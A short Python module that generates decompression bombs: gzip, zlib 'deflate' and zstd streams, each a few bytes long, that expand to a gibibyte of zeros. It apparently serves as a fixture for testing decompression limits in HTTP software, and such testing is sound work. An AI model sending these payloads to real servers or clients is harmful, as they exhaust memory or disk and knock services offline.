"""Nothing enters, little bytes that become many leave: compressed zeros, made without compressing them."""

from __future__ import annotations

import gzip
import struct
import zlib

MEBIBYTE = 1024 * 1024
BOMB_MIB = 1024
_BLOCK = bytes(MEBIBYTE)


def _deflated() -> bytes:
    # After a full flush the compressor has forgotten everything, so the same MiB is the same bytes every time.
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return (packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)) * BOMB_MIB


def gzip_bomb() -> bytes:
    """Return a GiB of zeros as gzip: ten bytes of head (RFC 1952), then the data; nobody gets to its checksum."""
    return gzip.compress(b"")[:10] + _deflated()


def zlib_bomb() -> bytes:
    """Return a GiB of zeros as HTTP's `deflate`: RFC 1950."""
    return zlib.compress(b"")[:2] + _deflated()


def zstd_bomb() -> bytes:
    """Return a GiB of zeros as zstd (RFC 8878): blocks of one byte and how often it comes."""
    times = 128 * 1024
    block = struct.pack("<I", times << 3 | 1 << 1)[:3] + b"\0"
    frame = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x58"  # no checksum, no size; a window of 2 MiB
    return frame + block * (BOMB_MIB * MEBIBYTE // times)
